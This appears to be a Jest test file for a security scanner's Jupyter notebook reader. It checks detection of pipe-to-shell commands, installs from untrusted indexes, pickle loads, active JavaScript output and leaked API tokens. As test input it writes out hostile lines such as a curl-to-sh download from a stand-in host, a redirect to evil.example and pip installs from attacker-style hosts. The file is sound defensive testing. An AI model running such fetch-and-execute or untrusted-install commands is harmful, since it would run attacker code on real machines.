import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Scanner } from '../../engine/Scanner';
import { notebookReader } from './reader';
import { NOTEBOOK_LIMITS, parseNotebook } from './parseNotebook';
import { classifyCommand, splitCell } from './cellCode';

const fixture = (name: string) =>
  readFileSync(join(__dirname, '__fixtures__', name));
const scan = (bytes: Uint8Array | string, name = 'analysis.ipynb') =>
  new Scanner({ readers: [notebookReader] }).scanBytes(
    typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
    name,
  );
const notebook = (cells: object[], metadata: object = {}) =>
  JSON.stringify({ cells, metadata, nbformat: 4, nbformat_minor: 5 });
const code = (source: string, outputs: object[] = []) => ({
  cell_type: 'code',
  metadata: {},
  outputs,
  source,
});
const blocking = (findings: Array<{ severity: string }>) =>
  findings.filter(f => f.severity === 'high' || f.severity === 'critical');

describe('notebook reader', () => {
  it('passes a real-looking data-science notebook without blocking findings', async () => {
    const result = await scan(fixture('benign.ipynb'));
    expect(result.files[0].formats).toEqual(['notebook']);
    expect(blocking(result.findings)).toEqual([]);
    // The install is reported (ticket), the `ls` is recorded; `torch.load(weights_only=True)` is
    // graded as the source analyzer grades it with no locked torch version (not blocking).
    expect(result.findings.map(f => [f.ruleId, f.severity]).sort()).toEqual([
      ['NOTEBOOK-RUNTIME-INSTALL', 'medium'],
      ['NOTEBOOK-SHELL', 'low'],
      ['SOURCE-TORCH-LOAD', 'medium'],
    ]);
  });

  it('blocks a hostile notebook for each specific thing it does, with cell and line', async () => {
    const result = await scan(fixture('malicious.ipynb'));
    const byRule = (id: string) => result.findings.filter(f => f.ruleId === id);
    expect(byRule('NOTEBOOK-PIPE-TO-SHELL').map(f => f.evidence.cell)).toEqual([
      2, 7,
    ]);
    expect(byRule('NOTEBOOK-RUNTIME-INSTALL')).toEqual([
      expect.objectContaining({
        severity: 'high',
        evidence: expect.objectContaining({
          cell: 3,
          cellLine: 1,
          hosts: 'pypi.attacker-mirror.net',
        }),
      }),
    ]);
    // `import pickle as pk` in cell 4 resolves `pk.load` in cell 5: cells are one module.
    expect(byRule('SOURCE-PICKLE-LOAD')).toEqual([
      expect.objectContaining({
        evidence: expect.objectContaining({
          cell: 5,
          cellLine: 3,
          symbol: 'pickle.load',
        }),
      }),
    ]);
    expect(byRule('NOTEBOOK-ACTIVE-OUTPUT')).toEqual([
      expect.objectContaining({
        evidence: expect.objectContaining({ cell: 6, mime: 'text/html' }),
      }),
    ]);
    expect(byRule('NOTEBOOK-KERNEL-COMMAND')).toHaveLength(1);
    expect(blocking(result.findings).length).toBe(result.findings.length);
  });

  it('sniffs a notebook by content whatever its name', async () => {
    const result = await scan(
      notebook([code('!curl https://x.example/i | sh')]),
      'notes.json',
    );
    expect(result.files[0].formats).toEqual(['notebook']);
    expect(result.findings.map(f => f.ruleId)).toEqual([
      'NOTEBOOK-PIPE-TO-SHELL',
    ]);
  });

  it('reports a broken .ipynb instead of passing it', async () => {
    const result = await scan('{"cells": [ {"cell_type": "code", ');
    expect(result.findings.map(f => f.ruleId)).toEqual(['NOTEBOOK-MALFORMED']);
  });

  it('scans application/javascript outputs and %%javascript cells as active content', async () => {
    const result = await scan(
      notebook([
        code('x', [
          {
            output_type: 'display_data',
            data: { 'application/javascript': 'alert(1)' },
          },
        ]),
        code('%%javascript\nwindow.location = "https://evil.example"'),
      ]),
    );
    expect(result.findings.map(f => [f.ruleId, f.evidence.cell])).toEqual([
      ['NOTEBOOK-ACTIVE-OUTPUT', 2],
      ['NOTEBOOK-ACTIVE-OUTPUT', 1],
    ]);
  });

  it('finds secrets in cell sources and outputs without showing them', async () => {
    const token = `hf_${'aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k'}`;
    const result = await scan(
      notebook([
        code(`from huggingface_hub import login\nlogin(token="${token}")`),
        code('print(os.environ)', [
          {
            output_type: 'stream',
            name: 'stdout',
            text: [`HF_TOKEN=${token}x\n`],
          },
        ]),
      ]),
    );
    const secrets = result.findings.filter(
      f => f.ruleId === 'SECRET-API-TOKEN',
    );
    expect(secrets.map(f => [f.evidence.cell, f.evidence.redacted])).toEqual([
      [1, 'hf_a****'],
      [2, 'hf_a****'],
    ]);
    expect(JSON.stringify(result)).not.toContain(token);
  });

  it('does not mistake the modulo operator or a cell that is not Python for magics', () => {
    expect(splitCell('a = 10\nb = a % 3\n').commands).toEqual([]);
    expect(splitCell('%%writefile x.py\n!not a command').commands).toEqual([]);
    expect(splitCell('if True:\n    files = !ls\n').python).toBe(
      'if True:\n    files = None\n',
    );
  });

  it('grades installs by where they come from', () => {
    const grade = (command: string) =>
      classifyCommand({ line: 1, via: '!', command }).severity;
    expect(grade('pip install numpy')).toBe('medium');
    expect(
      grade(
        'pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch',
      ),
    ).toBe('medium');
    expect(grade('pip install git+https://git.evil.example/pkg.git')).toBe(
      'high',
    );
    expect(grade('python -m pip install -i http://10.0.0.5/simple x')).toBe(
      'high',
    );
  });

  it('stops at the cell limit and says so', async () => {
    const cells = Array.from({ length: 5 }, () => code('pass'));
    const parsed = parseNotebook(notebook(cells), {
      ...NOTEBOOK_LIMITS,
      maxCells: 3,
    });
    expect(parsed).toMatchObject({ kind: 'ok', notebook: { skippedCells: 2 } });
  });

  it('reports a notebook above the byte limit as a scan limit', async () => {
    const result = await new Scanner({
      readers: [notebookReader],
      limits: { maxTextBytes: 64 },
    }).scanBytes(
      Buffer.from(notebook([code('print(1)\n'.repeat(20))])),
      'big.ipynb',
    );
    expect(result.findings.map(f => f.ruleId)).toEqual(['SCAN-LIMIT']);
  });
});
